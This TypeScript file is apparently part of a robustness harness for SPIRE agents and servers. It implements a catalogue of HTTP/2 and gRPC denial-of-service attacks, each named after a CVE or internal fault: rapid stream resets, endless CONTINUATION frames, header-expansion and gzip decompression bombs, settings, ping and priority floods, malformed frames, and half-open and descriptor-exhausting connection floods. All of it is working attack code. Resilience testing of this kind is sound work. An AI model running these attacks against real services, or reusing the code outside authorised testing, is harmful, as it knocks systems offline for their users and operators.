import { gzipSync } from 'node:zlib';
import { type Attacker, repeat, send, sendUnread, type Target, untilClosed } from './attacker.ts';
import {
  beginCall,
  CONTINUATION,
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  messagePrefix,
  opening,
  PING,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  streamIds,
  uint32,
  WINDOW_UPDATE,
} from './http2-frames.ts';

/** One way to do harm over a connection. */
export interface Attack {
  /** What it does, with the advisory or fault that it is named after. */
  readonly name: string;
  /** Does it, as much as told: 1 is a second or so. What is open at the end stays so until the attacker is disposed of. */
  readonly run: (attacker: Attacker, amount: number) => Promise<void>;
}

/** A single request, answered to anyone: on the agent's socket health, on the server's TLS port the bundle. */
const unaryPath = (target: Target): string =>
  target.kind === 'unix' ? '/grpc.health.v1.Health/Check' : '/spire.api.server.bundle.v1.Bundle/GetBundle';
/** A stream both ways: on the agent's socket reflection, on the server's TLS port attestation. */
const bidiPath = (target: Target): string =>
  target.kind === 'unix'
    ? '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
    : '/spire.api.server.agent.v1.Agent/AttestAgent';
/** A stream that stays open on the agent's socket. */
const STREAM = '/SpiffeWorkloadAPI/FetchX509Bundles';
const streamPath = (target: Target): string => (target.kind === 'unix' ? STREAM : bidiPath(target));

const EMPTY_MESSAGE = messagePrefix(0);
const INITIAL_WINDOW_SIZE = 4;

/** Sends an opening and these parts on one connection, and waits a moment for what comes of it. */
async function speak(attacker: Attacker, parts: Iterable<Uint8Array>): Promise<void> {
  const socket = await attacker.connect();
  if (socket === undefined) return;
  await send(socket, [opening()]);
  await send(socket, parts);
  await untilClosed(socket, 300);
}

/** The same, on a connection of which nothing is read. */
async function shout(attacker: Attacker, parts: Iterable<Uint8Array>): Promise<void> {
  const socket = await attacker.connect();
  if (socket === undefined) return;
  await send(socket, [opening()]);
  socket.pause();
  await sendUnread(socket, parts, 2_000);
}

function* calls(path: string, count: number, ...after: ((id: number) => Uint8Array)[]): Generator<Uint8Array> {
  for (const id of streamIds(count)) yield Buffer.concat([beginCall(path, id), ...after.map((part) => part(id))]);
}

export const FRAME_ATTACKS: readonly Attack[] = [
  {
    name: 'CVE-2023-44487: streams are opened and reset in a row',
    async run(attacker, amount) {
      const reset = (id: number): Buffer => frame(RST_STREAM, 0, id, uint32(8));
      for (let round = 0; round < amount; round += 1)
        await speak(attacker, calls(unaryPath(attacker.target), 5_000, reset));
    },
  },
  {
    name: 'CVE-2023-45288: a header block goes on in CONTINUATION frames for ever',
    async run(attacker, amount) {
      const begin = frame(HEADERS, 0, 1, callHeaders(unaryPath(attacker.target)));
      for (const payload of [Buffer.alloc(0), Buffer.alloc(16_384, 0x82)]) {
        await speak(attacker, [begin, ...repeat(frame(CONTINUATION, 0, 1, payload), 500 * amount)]);
      }
    },
  },
  {
    name: 'CVE-2016-6581: small headers unpack to large ones',
    async run(attacker, amount) {
      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]), Buffer.alloc(4000, 'x')]);
      const block = Buffer.concat([callHeaders(unaryPath(attacker.target)), entry, Buffer.alloc(8000, 0xbe)]);
      const headers = (id: number): Buffer => frame(HEADERS, END_HEADERS, id, block);
      await speak(attacker, [...streamIds(100 * amount)].map(headers));
    },
  },
  {
    name: 'CVE-2024-37168: a small compressed message unpacks to a gigabyte',
    async run(attacker, amount) {
      const bomb = gzipSync(Buffer.alloc(64 << 20));
      const body = (id: number): Buffer =>
        Buffer.concat([
          frame(DATA, 0, id, Buffer.concat([messagePrefix(bomb.length, 1), bomb.subarray(0, 16_000)])),
          ...Array.from({ length: Math.ceil(bomb.length / 16_000) - 1 }, (_, index) =>
            frame(DATA, 0, id, bomb.subarray((index + 1) * 16_000, (index + 2) * 16_000)),
          ),
        ]);
      for (const encoding of ['gzip', 'deflate', 'identity', 'br']) {
        const ids = [...streamIds(16 * amount)];
        await speak(
          attacker,
          ids.map((id) =>
            Buffer.concat([beginCall(unaryPath(attacker.target), id, 0, [['grpc-encoding', encoding]]), body(id)]),
          ),
        );
      }
    },
  },
  {
    name: 'an oversize message is announced, and one is sent',
    async run(attacker, amount) {
      const part = (id: number): Buffer => frame(DATA, 0, id, Buffer.alloc(16_384));
      await speak(
        attacker,
        calls(unaryPath(attacker.target), 100, (id) => frame(DATA, 0, id, messagePrefix(0xffff_ffff))),
      );
      await speak(attacker, [
        beginCall(unaryPath(attacker.target), 1),
        frame(DATA, 0, 1, messagePrefix((4 << 20) + 1)),
        ...repeat(part(1), 300 * amount),
      ]);
    },
  },
  {
    name: 'CVE-2026-48068 and CVE-2026-48069: malformed frames and messages',
    async run(attacker) {
      const inner = (id: number, ...parts: Uint8Array[]): Buffer =>
        Buffer.concat([
          beginCall(unaryPath(attacker.target), id),
          ...parts.map((part) => frame(DATA, 0, id, part)),
          frame(DATA, END_STREAM, id),
        ]);
      const malformed = [
        frame(DATA, 0, 0, Buffer.alloc(8)),
        frame(DATA, 0x08, 1, Buffer.of(255)),
        frame(HEADERS, END_HEADERS, 2, callHeaders(unaryPath(attacker.target))),
        frame(HEADERS, END_HEADERS | 0x08, 1, Buffer.of(255, 0)),
        frame(HEADERS, END_HEADERS, 1, Buffer.alloc(64, 0xff)),
        frame(SETTINGS, 0, 0, Buffer.alloc(5)),
        frame(SETTINGS, 1, 0, Buffer.alloc(6)),
        frame(PING, 0, 1, Buffer.alloc(8)),
        frame(RST_STREAM, 0, 99, uint32(8)),
        frame(WINDOW_UPDATE, 0, 1, Buffer.alloc(3)),
        frame(5, END_HEADERS, 1, Buffer.alloc(4)),
        frame(0xee, 0xff, 0x7fff_ffff, Buffer.alloc(100)),
        Buffer.alloc(4096, 0xa5),
        Buffer.concat([uint32(0x7fff_ff00), Buffer.alloc(100)]),
        inner(1, Buffer.of(7, 0, 0, 0, 1, 1)),
        inner(1, Buffer.of(0, 0, 0)),
        inner(1, messagePrefix(2), Buffer.of(0xff, 0xff)),
        inner(1, messagePrefix(5, 1), Buffer.alloc(5)),
      ];
      for (const bytes of malformed) {
        const socket = await attacker.connect();
        if (socket === undefined) continue;
        await send(socket, [opening(), bytes]);
        await untilClosed(socket, 30);
        socket.destroy();
      }
    },
  },
  {
    name: 'CVE-2019-9515: settings in a row, whose acknowledgements are read or not',
    async run(attacker, amount) {
      const some = Buffer.concat(Array<Buffer>(500).fill(frame(SETTINGS, 0, 0)));
      await speak(attacker, repeat(some, 40 * amount));
      await shout(attacker, repeat(some, 40 * amount));
    },
  },
  {
    name: 'CVE-2019-9512: pings in a row, whose answers are read or not',
    async run(attacker, amount) {
      const some = Buffer.concat(Array<Buffer>(500).fill(frame(PING, 0, 0, Buffer.alloc(8))));
      await speak(attacker, repeat(some, 40 * amount));
      await shout(attacker, repeat(some, 40 * amount));
    },
  },
  {
    name: 'CVE-2019-9513: streams change their priority all the time',
    async run(attacker, amount) {
      const shuffle = function* (): Generator<Uint8Array> {
        for (let n = 0; n < 40_000 * amount; n += 1) {
          const id = 2 * (n % 500) + 1;
          yield frame(PRIORITY, 0, id, Buffer.concat([uint32((id + 2 * (n % 7)) & 0x7fff), Buffer.of(n & 255)]));
        }
      };
      await speak(attacker, shuffle());
    },
  },
  {
    name: 'the window is opened beyond its limit',
    async run(attacker) {
      const most = uint32(0x7fff_ffff);
      await speak(attacker, [frame(WINDOW_UPDATE, 0, 0, most), frame(WINDOW_UPDATE, 0, 0, most)]);
      await speak(attacker, [
        beginCall(unaryPath(attacker.target), 1),
        frame(WINDOW_UPDATE, 0, 1, most),
        frame(WINDOW_UPDATE, 0, 1, most),
      ]);
      await speak(attacker, repeat(frame(WINDOW_UPDATE, 0, 0, uint32(0)), 100));
      const socket = await attacker.connect();
      if (socket === undefined) return;
      await send(socket, [opening([INITIAL_WINDOW_SIZE, 0xffff_ffff])]);
      await untilClosed(socket, 300);
    },
  },
  {
    name: 'CVE-2019-9518: empty DATA frames in a row',
    async run(attacker, amount) {
      const some = Buffer.concat(Array<Buffer>(500).fill(frame(DATA, 0, 1)));
      await speak(attacker, [beginCall(unaryPath(attacker.target), 1), ...repeat(some, 100 * amount)]);
    },
  },
  {
    name: 'a message comes in frames of one byte',
    async run(attacker, amount) {
      const byte = (id: number): Buffer => frame(DATA, 0, id, Buffer.of(0));
      const drip = [...streamIds(20)].map((id) => Buffer.concat(Array<Buffer>(500).fill(byte(id))));
      await speak(attacker, [
        ...calls(unaryPath(attacker.target), 20, (id) => frame(DATA, 0, id, messagePrefix(4 << 20))),
        ...Array.from({ length: 10 * amount }, () => drip).flat(),
      ]);
    },
  },
  {
    name: 'streams are full of empty messages that nobody reads',
    async run(attacker, amount) {
      const path = bidiPath(attacker.target);
      const many = Buffer.concat(Array<Buffer>(3_200).fill(EMPTY_MESSAGE));
      await shout(
        attacker,
        calls(path, Math.min(900, 100 * amount), (id) => frame(DATA, 0, id, many)),
      );
    },
  },
  {
    name: 'hundreds of large requests lack their last byte',
    async run(attacker, amount) {
      const parts = Array<Buffer>(250).fill(Buffer.alloc(16_384));
      const body = (id: number): Buffer =>
        Buffer.concat([
          beginCall(unaryPath(attacker.target), id),
          frame(DATA, 0, id, messagePrefix(4 << 20)),
          ...parts.map((part) => frame(DATA, 0, id, part)),
        ]);
      const each = function* (): Generator<Uint8Array> {
        for (const id of streamIds(Math.min(300, 30 * amount))) yield body(id);
      };
      const socket = await attacker.connect();
      if (socket === undefined) return;
      await send(socket, [opening()]);
      await sendUnread(socket, each(), 20_000);
    },
  },
];

export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: 'half-open: clients connect and say nothing',
    async run(attacker, amount) {
      for (let n = 0; n < 200 * amount; n += 1) await attacker.connectBare();
    },
  },
  {
    name: 'half-open: a TLS handshake or an HTTP/2 opening begins and goes no further',
    async run(attacker, amount) {
      const beginning = attacker.target.kind === 'tls' ? Buffer.from('16030102000100', 'hex') : Buffer.from('PRI * HT');
      for (let n = 0; n < 100 * amount; n += 1) {
        const socket = await attacker.connectBare();
        socket?.write(beginning);
      }
    },
  },
  {
    name: 'half-open: headers are never ended',
    async run(attacker, amount) {
      for (let n = 0; n < 100 * amount; n += 1) {
        const socket = await attacker.connect();
        socket?.write(Buffer.concat([opening(), frame(HEADERS, 0, 1, callHeaders(unaryPath(attacker.target)))]));
      }
    },
  },
  {
    name: 'half-open: requests are never ended',
    async run(attacker, amount) {
      for (let n = 0; n < 5; n += 1) {
        const socket = await attacker.connect();
        if (socket !== undefined)
          await send(socket, [opening(), ...calls(unaryPath(attacker.target), Math.min(1_000, 100 * amount))]);
      }
    },
  },
  {
    name: 'F26: consumers of streams never read, and give no window',
    async run(attacker, amount) {
      for (let n = 0; n < 2; n += 1) {
        const socket = await attacker.connect();
        if (socket === undefined) continue;
        const message = (id: number): Buffer => frame(DATA, END_STREAM, id, EMPTY_MESSAGE);
        await send(socket, [opening([INITIAL_WINDOW_SIZE, 0])]);
        socket.pause();
        await sendUnread(socket, calls(streamPath(attacker.target), Math.min(900, 100 * amount), message), 5_000);
      }
    },
  },
  {
    name: 'F25: thousands of streams are open at once',
    async run(attacker, amount) {
      const message = (id: number): Buffer => frame(DATA, END_STREAM, id, EMPTY_MESSAGE);
      for (let n = 0; n < Math.min(10, amount); n += 1) {
        const socket = await attacker.connect();
        if (socket === undefined) continue;
        await send(socket, [opening(), ...calls(streamPath(attacker.target), 1_000, message)]);
      }
    },
  },
  {
    name: 'one user opens as many connections as he gets',
    async run(attacker, amount) {
      for (let n = 0; n < Math.min(16_384, 500 * amount); n += 1) {
        const socket = await attacker.connectBare();
        if (attacker.target.kind === 'unix') socket?.write(opening());
      }
    },
  },
  {
    name: '0.12.1 (descriptor leak): connects and aborts in a row',
    async run(attacker, amount) {
      for (let n = 0; n < 1_000 * amount; n += 1) {
        const socket = await attacker.connectBare();
        if (n % 3 === 1) socket?.write('PRI * HTTP/2.0\r\n\r\nSM');
        if (n % 3 === 2) socket?.write(Buffer.concat([opening(), beginCall(unaryPath(attacker.target), 1)]));
        socket?.destroy();
      }
    },
  },
];
